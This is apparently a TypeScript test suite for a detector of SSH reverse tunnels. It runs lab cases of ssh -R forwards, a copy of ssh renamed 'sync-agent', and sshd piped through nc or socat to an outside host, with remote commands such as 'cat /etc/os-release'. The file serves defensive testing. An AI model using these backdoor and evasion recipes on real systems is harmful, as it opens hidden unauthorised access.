// More of what SSH is used for to let the outside in: targets, several forwards, masters, proxies, servers that dial out.
import type { ChildProcess } from "node:child_process"
import { copyFileSync, existsSync } from "node:fs"
import { join } from "node:path"
import type { Case, Lab, Run } from "../case.js"
import { firstUseUs, pidOf, stopAll, waitForPort } from "../case.js"
import { addresses } from "../network.js"
import { waitForLine, waitForSuccess } from "../processes.js"
import { login, ssh, sshOptions } from "../ssh.js"

const service = "127.0.0.1:8000"
let nextPort = 18500

type Requests = "varied" | "constant" | "one" | "bulk" | "parallel"

async function visit(lab: Lab, port: number, client: ChildProcess, requests: Requests = "varied"): Promise<Run> {
  await waitForPort(lab.network, "outside", port)
  const visitor = lab.network.python("outside", "visitor.py", `${port}`, requests)
  const firstUs = await firstUseUs(visitor)
  await waitForSuccess(visitor)
  return { pids: [pidOf(client)], firstUs, end: stopAll(client) }
}

function forward(name: string, args: (port: number, lab: Lab) => readonly string[], requests?: Requests): Case {
  return {
    name,
    finds: { class: ["reverse_tunnel"], exe: /ssh/ },
    run: (lab) => {
      const port = nextPort++
      return visit(lab, port, ssh(lab.network, ...args(port, lab)), requests)
    },
  }
}

/** A server inside that meets, on a connection that it dialled, a client which waits outside. */
function dialsOut(
  name: string,
  exe: RegExp,
  command: (port: number, lab: Lab) => readonly [string, ...string[]],
): Case {
  return {
    name,
    finds: { class: ["ssh_role_inversion", "reverse_tunnel"], exe },
    run: async (lab) => {
      const { network } = lab
      const [far, near] = [nextPort++, nextPort++]
      const meeting = network.start("outside", "socat", `TCP-LISTEN:${far},reuseaddr`, `TCP-LISTEN:${near},reuseaddr`)
      await waitForPort(network, "outside", far)
      const client = network.start("inside", ...command(far, lab))
      await waitForPort(network, "outside", near)
      const firstUs = Date.now() * 1000
      const words = [...sshOptions(network), "-p", `${near}`, "root@127.0.0.1", "id; ls /; cat /etc/os-release"]
      await waitForSuccess(network.start("outside", "ssh", ...words))
      return { pids: [pidOf(client)], firstUs, tunnelPorts: [far], end: stopAll(client, meeting) }
    },
  }
}

const sshd = ({ network }: Lab): string => `/usr/sbin/sshd -i -f ${join(network.folder, "sshd_config")}`

export const sshForms: readonly Case[] = [
  forward("ssh -R, one request", (port) => ["-N", "-R", `${port}:${service}`, login], "one"),
  forward("ssh -R, requests of one size", (port) => ["-N", "-R", `${port}:${service}`, login], "constant"),
  {
    name: "ssh -R to a unix socket",
    finds: { class: ["reverse_tunnel"], exe: /ssh/ },
    run: async (lab) => {
      const port = nextPort++
      const path = join(lab.network.folder, `ssh-target-${port}.sock`)
      const target = lab.network.python("inside", "inside_service.py", "unix", path)
      await waitForLine(target, "listening")
      const run = await visit(lab, port, ssh(lab.network, "-N", "-R", `${port}:${path}`, login))
      return { ...run, end: () => run.end().then(stopAll(target)) }
    },
  },
  {
    name: "forward that is added to a control master",
    finds: { class: ["reverse_tunnel"], exe: /ssh/ },
    run: async (lab) => {
      const port = nextPort++
      const path = join(lab.network.folder, `master-${port}`)
      const master = ssh(lab.network, "-M", "-N", "-S", path, login)
      const wait = `until ssh -S ${path} -O check ${login} 2>/dev/null; do sleep 0.1; done`
      const add = `ssh -S ${path} -O forward -R ${port}:${service} ${login}`
      await waitForSuccess(lab.network.start("inside", "sh", "-ec", `${wait}; ${add}`))
      return visit(lab, port, master)
    },
  },
  forward("ssh -R, several at once", (port) => ["-N", "-R", `${port}:${service}`, login], "parallel"),
  forward("ssh -R, one large download", (port) => ["-N", "-R", `${port}:${service}`, login], "bulk"),
  forward("two -R of one ssh", (port) => [
    "-N",
    "-R",
    `${port}:${service}`,
    "-R",
    `${nextPort++}:127.0.0.1:6000`,
    login,
  ]),
  forward("ssh -R with a shell beside it", (port) => ["-R", `${port}:${service}`, login, "sleep 30"]),
  forward("ssh -R with -L and -D beside it", (port) => [
    "-N",
    ...["-R", `${port}:${service}`, "-L", `${nextPort++}:127.0.0.1:8001`, "-D", `${nextPort++}`],
    login,
  ]),
  forward("ssh -R with keep-alives of its own", (port) => [
    ...["-N", "-o", "ServerAliveInterval=1", "-R", `${port}:${service}`],
    login,
  ]),
  {
    name: "ssh by another name",
    finds: { class: ["reverse_tunnel"], exe: /sync-agent/ },
    run: (lab) => {
      const port = nextPort++
      const program = join(lab.network.folder, "sync-agent")
      if (!existsSync(program)) copyFileSync("/usr/bin/ssh", program)
      const words = [...sshOptions(lab.network), "-N", "-R", `${port}:${service}`, login]
      return visit(lab, port, lab.network.start("inside", program, ...words))
    },
  },
  forward(
    "ssh -R compressed, requests of one size",
    (port) => ["-C", "-N", "-R", `${port}:${service}`, login],
    "constant",
  ),
  {
    name: "autossh -R with a monitor port",
    finds: { class: ["reverse_tunnel"], exe: /ssh/ },
    run: (lab) => {
      const [port, monitor] = [nextPort++, (nextPort += 3)]
      const args = ["-M", `${monitor}`, "-N", ...sshOptions(lab.network), "-R", `${port}:${service}`, login]
      return visit(lab, port, lab.network.start("inside", "autossh", ...args))
    },
  },
  {
    name: "dbclient -R, requests of one size",
    finds: { class: ["reverse_tunnel"], exe: /dbclient|dropbear/ },
    run: (lab) => {
      const port = nextPort++
      const key = join(lab.network.folder, "dropbear-key")
      const words = ["-y", "-y", "-i", key, "-N", "-R", `${port}:${service}`, login]
      return visit(lab, port, lab.network.start("inside", "dbclient", ...words), "constant")
    },
  },
  dialsOut("sshd behind nc and FIFOs", /sshd|nc|sh$/, (port, lab) => {
    const pipe = join(lab.network.folder, `sshd-${port}`)
    return ["sh", "-c", `mkfifo ${pipe}; ${sshd(lab)} < ${pipe} | nc ${addresses.outside} ${port} > ${pipe}`]
  }),
  dialsOut("sshd on loopback behind a relay", /sshd|socat/, (port, lab) => {
    const local = nextPort++
    const server = `/usr/sbin/sshd -D -p ${local} -o ListenAddress=127.0.0.1 -f /dev/null`
    const keys = `-h ${join(lab.network.folder, "host-key")} -o AuthorizedKeysFile=${join(lab.network.folder, "authorized")}`
    const options = "-o StrictModes=no -o UsePAM=no -o PidFile=none"
    const ready = `until ss -Hltn "sport = :${local}" | grep -q .; do sleep 0.05; done`
    return [
      "sh",
      "-c",
      `${server} ${keys} ${options} & ${ready}; exec socat TCP:${addresses.outside}:${port} TCP:127.0.0.1:${local}`,
    ]
  }),
]
